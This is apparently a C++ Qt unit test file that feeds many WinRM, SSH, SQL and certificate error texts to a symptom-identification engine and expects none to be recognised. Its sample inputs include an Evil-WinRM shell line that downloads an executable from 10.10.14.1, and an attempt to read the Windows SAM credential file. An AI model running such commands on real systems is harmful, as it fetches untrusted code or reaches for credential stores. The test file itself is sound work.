// Texts in which nothing of ours is wrong: saying "I do not know this one" is the right answer.
#include "engine/symptoms/symptom.h"
#include "tests/support/log_guard.h"

#include <QTest>

using namespace credssp;

class tst_SymptomRefuses : public QObject
{
    Q_OBJECT

private slots:
    void init() { m_log.begin(); }
    void cleanup() { QVERIFY2(m_log.verify().isEmpty(), qPrintable(m_log.verify())); }

    void nothingIsRecognized_data();
    void nothingIsRecognized();

private:
    LogGuard m_log;
};

void tst_SymptomRefuses::nothingIsRecognized_data()
{
    QTest::addColumn<QString>("text");
    const auto row = [](const char *why, const char *text) { QTest::newRow(why) << QString::fromUtf8(text); };

    row("nothing at all", "");
    row("blanks only", " \r\n\t\n   ");
    row("one word", "error");
    row("SSH refuses the key", "anna@srv1: Permission denied (publickey,gssapi-keyex,gssapi-with-mic).");
    row("SSH port refused", "ssh: connect to host srv1.contoso.com port 22: Connection refused");
    row("SSH name unknown", "ssh: Could not resolve hostname srv9: Name or service not known");
    row("SSH times out", "ssh: connect to host 10.0.0.8 port 22: Connection timed out");
    row("PowerShell over SSH",
        "New-PSSession: [srv1] The background process reported an error with the following message: The SSH "
        "client "
        "session has ended before connection was established.\n    + FullyQualifiedErrorId : "
        "-2147467259,PSSessionOpenFailed");
    row("SQL login",
        "Login failed for user 'CONTOSO\\anna'. Reason: Password did not match that for the login provided. "
        "[CLIENT: 10.0.0.5] (Microsoft SQL Server, Error: 18456)");
    row("SQL login, anonymous, from a desktop",
        "Login failed for user 'NT AUTHORITY\\ANONYMOUS LOGON'. (Microsoft SQL Server, Error: 18456)");
    row("SQL and its SPN",
        "The target principal name is incorrect. Cannot generate SSPI context. (Microsoft SQL Server)");
    row("SQL and its SPN, with a script's Invoke-Sqlcmd",
        "Invoke-Command -ComputerName sql1 { Invoke-Sqlcmd 'select 1' }\nInvoke-Sqlcmd : The target "
        "principal name is "
        "incorrect.  Cannot generate SSPI context.");
    row("access denied on a local file",
        "Get-Content : Access to the path 'C:\\Windows\\System32\\config\\SAM' is denied.\nAt line:1 char:1\n"
        "    + CategoryInfo          : PermissionDenied: (C:\\Windows\\System32\\config\\SAM:String) "
        "[Get-Content], "
        "UnauthorizedAccessException");
    row("the end of a log's line, and the level of the next",
        "2026-06-02 08:14:55.100 [main] INFO Windows Remote Management: WinRM uses Kerberos authentication\n"
        "2026-06-02 08:14:56.100 [main] ERROR the disk is full");
    row("a rule that waits for an error", "port=\"5985\" summary: WinRM: connection refused or timed out");
    row("a Python module that is missing",
        "from pypsrp.client import Client\nModuleNotFoundError: No module named 'pypsrp'");
    row("a runspace's language mode, set by hand",
        "PS C:\\> $ExecutionContext.SessionState.LanguageMode = 'NoLanguage'\nPS C:\\> Get-Date\n"
        "The syntax is not supported by this runspace. This can occur if the runspace is in no-language "
        "mode.");
    row("a file that is not there, near WinRM's address",
        "http://srv1:5985/wsman\nTraceback: playbook file not found");
    row("a certificate's file that is not there",
        "winrm.exceptions.InvalidCredentialsError: cert_pem file not found (/etc/pki/win/user.pem)");
    row("git's password, for a repository that is called so",
        "fatal: Authentication failed for 'https://gitlab.example.net/ops/winrm-role.git/'");
    row("access denied, cmd",
        "C:\\>del C:\\Windows\\notepad.exe\nC:\\Windows\\notepad.exe\nAccess is denied.");
    row("access denied on a share, from a desktop",
        "\\\\files01\\projects is not accessible. Access is denied.");
    row("net use, system error 5",
        "C:\\>net use x: \\\\files01\\c$\nSystem error 5 has occurred.\n\nAccess is denied.");
    row("system error 53", "System error 53 has occurred.\n\nThe network path was not found.");
    row("the code of Windows Update",
        "Windows Update error 0x80070005: there were problems installing some updates.");
    row("a setup log's access denied", "2024-01-01 12:00:00, Error CSI 0x80070005 in RegOpenKeyEx");
    row("a COM code without remoting", "System.Runtime.InteropServices.COMException (0x8007052E)");
    row("bare small numbers", "5\n50\n53\n1312\n1326");
    row("an exit code", "The process exited with code 5.");
    row("error 50 of a program", "error code 50: The request is not supported.");
    row("a ticket number", "Ticket 1326 was closed; see also 12175 and 1312.");
    row("a phone number", "Call +49 2150 859172 or 02144108124.");
    row("a GUID with the digits of a code", "{803381a4-1234-4cde-8123-001122334455}");
    row("a longer hexadecimal number", "0x803381A40 ff803381A4 803381A4ff");
    row("a hash", "sha1 a80338012c9e8bb1d2f0803381a4e5f607182939");
    row("a WSMan code that is nobody's", "0x80338FFF");
    row("about CredSSP",
        "CredSSP lets an application delegate the user's credentials from the client to the target server "
        "for remote "
        "authentication. It is off by default; enable it only when the second hop needs it.");
    row("a question about CredSSP",
        "Should we use CredSSP or Kerberos constrained delegation for the second hop?");
    row("the prompt of Enable-WSManCredSSP",
        "CredSSP Authentication Configuration for WS-Management\nCredSSP authentication allows the user "
        "credentials on "
        "this computer to be sent to a remote computer. If you use CredSSP authentication for a connection "
        "to a "
        "malicious or compromised computer, that computer will have access to your user name and "
        "password.\nDo you want "
        "to enable CredSSP authentication?\n[Y] Yes  [N] No  [S] Suspend  [?] Help (default is \"Y\"):");
    row("Get-WSManCredSSP, all well",
        "The machine is configured to allow delegating fresh credentials to the following target(s): "
        "wsman/node01.contoso.com\nThis computer is configured to receive credentials from a remote client "
        "computer.");
    row("Get-WSManCredSSP, nothing set", "The machine is not configured to allow delegating fresh "
                                         "credentials.\nThis computer is not configured to "
                                         "receive credentials from a remote client computer.");
    row("the cmdlet wants administrator rights",
        "Enable-WSManCredSSP : Access is denied. You need to run this cmdlet from an elevated process.");
    row("winrm get winrm/config/service",
        "Service\n    MaxConcurrentOperationsPerUser = 1500\n    AllowUnencrypted = false\n    Auth\n        "
        "Basic = "
        "false\n        Kerberos = true\n        Negotiate = true\n        CredSSP = false\n    "
        "DefaultPorts\n        "
        "HTTP = 5985\n        HTTPS = 5986\n    CertificateThumbprint\n    AllowRemoteAccess = true");
    row("winrm quickconfig, all well", "WinRM service is already running on this machine.\nWinRM is already "
                                       "set up for remote management on this "
                                       "computer.");
    row("Test-WSMan answers",
        "wsmid           : http://schemas.dmtf.org/wbem/wsman/identity/1/wsmanidentity.xsd\nProtocolVersion "
        ": "
        "http://schemas.dmtf.org/wbem/wsman/1/wsman.xsd\nProductVendor   : Microsoft Corporation");
    row("a policy's explanation", "This policy setting applies to applications using the Cred SSP component "
                                  "(for example: Remote Desktop "
                                  "Connection). This policy setting applies when server authentication was "
                                  "achieved via NTLM. If you enable this "
                                  "policy setting, you can specify the servers to which the user's fresh "
                                  "credentials can be delegated.");
    row("the oracle policy's explanation",
        "Encryption Oracle Remediation: This policy setting applies to applications using the CredSSP "
        "component. Some "
        "versions of the CredSSP protocol are vulnerable to an encryption oracle attack against the client.");
    row("an update's description", "KB4093492 addresses CVE-2018-0886, a vulnerability in CredSSP.");
    row("advice, no error",
        "If the WinRM service is not running, start it. Check whether the WinRM service is not running.");
    row("about the service", "The WinRM service is not running by default on client versions of Windows.");
    row("about ports",
        "WinRM listens on 5985 and 5986. If you get \"connection refused\", check the firewall. A time-out, "
        "such as \"No route to host\", is another matter.");
    row("about Ansible", "To use CredSSP with Ansible, install requests-credssp and set "
                         "ansible_winrm_transport to credssp. CredSSP "
                         "authentication is not enabled by default on a Windows host, but can be enabled by "
                         "running Enable-WSManCredSSP "
                         "-Role Server -Force.");
    row("Ansible over SSH", "srv1 | UNREACHABLE! => {\"msg\": \"Failed to connect to the host via ssh: ssh: "
                            "connect to host srv1 port 22: "
                            "Connection refused\", \"unreachable\": true}");
    row("advice about trust",
        "When the trust relationship between this workstation and the primary domain failed, use "
        "Test-ComputerSecureChannel -Repair.");
    row("setspn found one",
        "Checking domain DC=contoso,DC=com\nCN=SRV1,OU=Servers,DC=contoso,DC=com\n\tWSMAN/srv1\n\tWSMAN/"
        "srv1.contoso.com\n\nExisting SPN found!");
    row("an HTTPS certificate of a web site",
        "curl: (60) SSL certificate problem: unable to get local issuer certificate");
    row("a web server's certificate in Python",
        "requests.exceptions.SSLError: HTTPSConnectionPool(host='example.org', port=443): [SSL: "
        "CERTIFICATE_VERIFY_FAILED] certificate verify failed");
    row("a database refuses",
        "psql: error: connection to server at \"db1\", port 5432 failed: Connection refused");
    row("HTTP 401 of a web site",
        "The remote server returned an error: (401) Unauthorized. https://example.org/api");
    row("a logon session and IIS", "A specified logon session does not exist. It may already have been "
                                   "terminated. (Exception from HRESULT: "
                                   "0x80070520) at Microsoft.Web.Administration.BindingManager.Save()");
    row("a scheduled task", "Register-ScheduledTask : The user name or password is incorrect.");
    row("a clock skew of another tool", "Kerberos SessionError: KRB_AP_ERR_SKEW(Clock skew too great)");
    row("Remote Desktop only",
        "Remote Desktop can't connect to the remote computer for one of these reasons: 1) Remote "
        "access to the server is not enabled");
    row("a command that is missing",
        "Enter-PSSesion : The term 'Enter-PSSesion' is not recognized as the name of a "
        "cmdlet, function, script file, or operable program.");
    row("a script's own words", "Connecting to remote server srv1 ... done");
    row("not a word of ours", "Lorem ipsum dolor sit amet, consectetur adipiscing elit.");
    row("an inventory",
        "[windows:vars]\nansible_connection=winrm\nansible_winrm_transport=credssp\nansible_port=5986");
    row("a local file inside a remote session",
        "[srv1]: PS C:\\> Get-Content C:\\secret.txt\nGet-Content : Access is denied\n    + CategoryInfo     "
        "     : "
        "PermissionDenied: (C:\\secret.txt:String) [Get-Content], UnauthorizedAccessException");
    // In the words of PowerShell's sentence, but about something else.
    row("a download inside a remote shell",
        "*Evil-WinRM* PS C:\\> iwr http://10.10.14.1/x.exe -o x.exe\nUnable to connect to the remote server");
    row("a web page inside a remote session",
        "[srv7]: PS C:\\> Invoke-WebRequest https://intranet.contoso.com/wsman-docs\nInvoke-WebRequest : The "
        "underlying connection was closed: Could not establish trust relationship for the SSL/TLS secure "
        "channel.");
    row("a download of a task",
        "TASK [win_ping] ok: [web1]\nTASK [win_get_url] fatal: [web1]: FAILED! => {\"msg\": \"Error "
        "requesting "
        "'https://repo.contoso.com/a.msi'. The remote name could not be resolved: 'repo.contoso.com'\"}");
    row("a proxy refuses, and WinRM's port is published",
        "curl: (7) Failed to connect to proxy.contoso.com port 8080: Connection refused\ndocker-compose.yml: "
        "ports: 5985:5985");
    row("another program's certificate, beside a working listener",
        "WinRM listener is on http://*:5985/wsman, Test-WSMan web3 works fine.\nBut npm install says: "
        "request to "
        "https://registry.npmjs.org failed, reason: unable to get local issuer certificate");
    row("a setup is denied", "Setup failed with the following error message: Access is denied.");
    row("a copy is denied", "Copying failed with the following error message: Access Denied");
    row("a backup has a wrong password",
        "The job failed. Error message: The user name or password is incorrect.");
    row("a drive is not found", "Error message: The network path was not found.");
    row("a mapping is not supported", "Mapping failed. Error message: The request is not supported.");
    row("a printer runs out of memory",
        "error message: Not enough storage is available to process this command.");
    row("net time, system error 1398", "System error 1398 has occurred.\n\nThere is a time and/or date "
                                       "difference between the client and server.");
    row("a computer that a snap-in cannot find",
        "Cannot find the computer PC7. Verify that the computer exists on the network and that the name "
        "provided is spelled correctly.");
    row("a certificate of another program",
        "The SSL certificate is signed by an unknown certificate authority.");
    row("another port that begins alike", "http://localhost:59850/: connect: connection refused");
    row("another setting of a policy",
        "This setting cannot be changed because it is controlled by policies of your organization.");
    row("another gateway", "You must be a gateway administrator to add a data source.");
    row("a protocol's version",
        "The protocol version requested by the client is not supported by the server.");
    row("after the remote session",
        "[srv1]: PS C:\\> exit\nPS C:\\> dir \\\\files01\\projects\ndir : Access is denied\n");
}

void tst_SymptomRefuses::nothingIsRecognized()
{
    QFETCH(QString, text);
    QStringList found;
    for (const Symptom &symptom : identify(text))
        found.append(symptom.id + QStringLiteral(" for ") + symptom.evidence.front().text);
    QCOMPARE(found, QStringList());
}

QTEST_GUILESS_MAIN(tst_SymptomRefuses)
#include "tst_symptom_refuses.moc"
